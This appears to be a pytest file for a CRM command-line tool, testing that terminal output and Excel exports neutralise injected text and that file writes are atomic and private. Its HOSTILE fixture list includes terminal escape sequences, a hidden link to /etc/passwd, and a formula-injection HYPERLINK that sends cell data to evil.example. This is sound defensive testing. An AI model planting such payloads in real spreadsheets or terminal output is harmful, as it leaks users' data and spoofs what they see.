"""text.py (stored text on its way to a terminal) and files.py (every file written)."""

from __future__ import annotations

import io
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pytest
from rich.console import Console
from rich.table import Table

from crmcli import files, text
from crmcli.errors import OutputError

ROOT = Path(__file__).resolve().parent.parent

# Strings an export or a keyboard can bring in. Each must come out of a display
# as inert text and out of a workbook as a value no spreadsheet evaluates.
HOSTILE = [
    "王七[/bold]",
    "139[/]0000079",
    "[bold red]红字[/]",
    "[link=file:///etc/passwd]点我[/link]",
    "张三[vip]",
    "李四\x1b[2J",
    "\x1b]8;;file:///etc/passwd\x1b\\链接\x1b]8;;\x1b\\",
    "\x1b[31m红\x1b[0m",
    "备注\x1bOA\x1b[D左",  # arrow keys typed in a note
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+86 139 0000 0000",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "nul\x00bel\x07bs\x08del\x7f",
    "c1\x85\x9b2J",
    "\u202eevil\u202c",
    ":smile: :thumbs_up:",
    "王" * 100_000,
]


def test_clean_examples():
    assert text.clean("王七\x1b[2J") == "王七"
    assert text.clean("a\tb\nc\r") == "a b c "
    assert text.clean("\x1b]8;;file:///etc/passwd\x1b\\x\x1b]8;;\x1b\\") == "x"
    assert text.clean("a\x1bOAb\x1b[Cc") == "abc"
    assert text.clean("\u202eabc\u2066") == "abc"
    assert text.clean("x\x00y\x7fz\x9b") == "xyz"
    assert text.clean(None) == "" and text.clean(12) == "12"
    # kept: CJK, full-width and other printable text, ideographic space
    assert text.clean("欧阳振　粤B·12345 ¥1,234") == "欧阳振　粤B·12345 ¥1,234"


def test_safe_escapes_markup():
    assert text.safe("王七[/bold]") == "王七\\[/bold]"
    assert text.safe("张三[vip]\x1b[2J") == "张三\\[vip]"


def test_clean_input_drops_keys_and_blanks():
    assert text.clean_input("  很满意\x1b[D\x1b[D好 \n") == "很满意好"
    assert text.clean_input("\x1bOB下\x7f") == "下"
    assert text.clean_input("") == ""


def _console() -> tuple[Console, io.StringIO]:
    buf = io.StringIO()
    return Console(file=buf, width=100, force_terminal=True, color_system="standard"), buf


@pytest.mark.parametrize("s", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_string_in_a_table_cell_is_inert(s):
    from crmcli.render import _row

    console, buf = _console()
    t = Table()
    t.add_column("x", overflow="fold")
    _row(t, s)
    console.print(t)
    out = buf.getvalue()
    # Rich's own styling uses SGR (ESC [ ... m); nothing else may reach the terminal.
    import re

    foreign = re.sub(r"\x1b\[[0-9;]*m", "", out)
    assert "\x1b" not in foreign and "\x07" not in foreign and "\u202e" not in foreign
    plain = re.sub(r"\x1b\[[0-9;]*m", "", out)
    visible = text.clean(s)
    if len(visible) < 50:  # the whole string shows, markup and all, in one cell
        assert visible.strip() in plain
    assert "\x1b]8;" not in out  # never a live link


@pytest.mark.parametrize("s", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_string_is_inert_in_a_cell(s):
    v = files.neutral_cell(s)
    assert not v.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert len(v) <= files.CELL_MAX
    assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in v)


def test_neutral_cell_examples():
    assert files.neutral_cell("=1+1") == "'=1+1"
    assert files.neutral_cell("-") == "'-"
    assert files.neutral_cell("a=1") == "a=1"
    assert files.neutral_cell("李四\x1b[2J\x07") == "李四"
    assert files.neutral_cell(-5) == -5 and files.neutral_cell(None) is None
    assert files.neutral_cell("多行\n备注") == "多行\n备注"


def test_workbooks_hold_hostile_strings_as_text(tmp_path):
    from crmcli.excel import write_rows_xlsx

    path = tmp_path / "r.xlsx"
    write_rows_xlsx(path, {"a[b]:c": [HOSTILE], "a[b]:c ": [["x"]]})
    wb = openpyxl.load_workbook(path)  # formulas come back as their text: none may be there
    ws = wb.worksheets[0]
    for c in ws[1]:
        assert c.data_type == "s", c.value
        assert not str(c.value).startswith(("=", "+", "-", "@"))
    assert len(wb.sheetnames) == 2 and stat.S_IMODE(path.stat().st_mode) == 0o600


def test_atomic_write_is_private_and_replaces(tmp_path):
    p = tmp_path / "out.txt"
    p.write_text("old")
    os.chmod(p, 0o644)
    files.write_text(p, "new")
    assert p.read_text() == "new" and stat.S_IMODE(p.stat().st_mode) == 0o600
    assert [x.name for x in tmp_path.iterdir()] == ["out.txt"]


def test_failure_mid_write_keeps_the_old_file(tmp_path):
    p = tmp_path / "out.xlsx"
    p.write_bytes(b"old workbook")

    def full_disk(fh):
        fh.write(b"half")
        raise OSError(28, "No space left on device")

    with pytest.raises(OutputError) as e:
        files.write_atomic(p, full_disk)
    assert "disk is full" in e.value.message and e.value.exit_code == 4
    assert p.read_bytes() == b"old workbook"
    assert [x.name for x in tmp_path.iterdir()] == ["out.xlsx"]

    with pytest.raises(ZeroDivisionError):
        files.write_atomic(p, lambda fh: 1 / 0)
    assert p.read_bytes() == b"old workbook"
    assert [x.name for x in tmp_path.iterdir()] == ["out.xlsx"]


def test_check_output_refuses_bad_paths(tmp_path):
    with pytest.raises(OutputError, match="does not exist"):
        files.check_output(tmp_path / "missing" / "x.xlsx")
    with pytest.raises(OutputError, match="is a folder"):
        files.check_output(tmp_path)
    with pytest.raises(OutputError, match="must end in .xlsx"):
        files.check_output(tmp_path / "x.csv", suffixes=(".xlsx",))
    ro = tmp_path / "ro"
    ro.mkdir()
    os.chmod(ro, 0o500)
    try:
        if os.access(ro, os.W_OK):
            pytest.skip("running as root: permissions are not enforced")
        with pytest.raises(OutputError, match="not writable"):
            files.check_output(ro / "x.xlsx")
        with pytest.raises(OutputError, match="permission denied"):
            files.write_text(ro / "x.txt", "x")
    finally:
        os.chmod(ro, 0o700)
    assert files.check_output(tmp_path / "fine.xlsx", suffixes=(".xlsx",)).name == "fine.xlsx"


def test_sheet_titles():
    assert files.sheet_title("a[b]:c/d?e*f\\g") == "a_b__c_d_e_f_g"
    assert files.sheet_title("x" * 40) == "x" * 31
    assert files.sheet_title("Rejects", ["rejects"]) == "Rejects (2)"
    assert files.sheet_title("") == "Sheet"


CHILD = r"""
import sys
sys.path.insert(0, sys.argv[2])
import openpyxl  # loaded before the write: the kill delays count from the write itself
from crmcli import files
from crmcli.excel import write_rows_xlsx

real = files.write_atomic


def announced(path, write, **kw):  # says when the file is being written, then writes it
    print("writing", flush=True)
    return real(path, write, **kw)


files.write_atomic = announced
rows = [[f"客户{i}", f"1390000{i:04d}", "=HYPERLINK(\"x\")", i] for i in range(int(sys.argv[3]))]
write_rows_xlsx(sys.argv[1], {"rejects": rows})
"""

# Milliseconds after the child starts writing the file (the zip itself takes
# about 50 ms for 6,000 rows here): from the first byte to after the rename.
KILL_DELAYS_MS = [0, 1, 2, 4, 7, 10, 15, 20, 30, 40, 55, 75, 100, 150, 250]


def _kill_run(path: Path, delay_ms: float, rows: int = 6000) -> str:
    p = subprocess.Popen([sys.executable, "-c", CHILD, str(path), str(ROOT), str(rows)],
                         stdout=subprocess.PIPE, text=True)
    line = p.stdout.readline().strip()
    assert line == "writing", line
    time.sleep(delay_ms / 1000)
    os.kill(p.pid, signal.SIGKILL)
    p.wait()
    return "finished" if p.returncode == 0 else "killed"


def check_after_kill(path: Path, old_bytes: bytes, rows: int = 6000) -> str:
    """The path holds the old file, or the whole new one; never part of one. Returns
    where the kill fell, and puts the old file back for the next run."""
    leftovers = [p for p in path.parent.iterdir() if p.name.startswith(f".{path.name}.")]
    for p in leftovers:
        p.unlink()
    if path.read_bytes() == old_bytes:
        return "during the write" if leftovers else "before the write"
    ws = openpyxl.load_workbook(path, read_only=True).active
    assert sum(1 for _ in ws.iter_rows()) == rows  # a whole new workbook
    path.write_bytes(old_bytes)
    return "after the rename"


def test_kill_while_writing_a_workbook_leaves_the_old_file(tmp_path):
    """SIGKILL at 15 moments of writing a 6,000-row rejects workbook: the path holds
    the old workbook, or (killed after the rename) the whole new one; never part."""
    path = tmp_path / "rejects.xlsx"
    old = openpyxl.Workbook()
    old.active["A1"] = "old"
    old.save(path)
    old_bytes = path.read_bytes()
    where = []
    for d in KILL_DELAYS_MS:
        _kill_run(path, d)
        where.append(check_after_kill(path, old_bytes))
    assert "during the write" in where, where  # some kills really fell inside the write
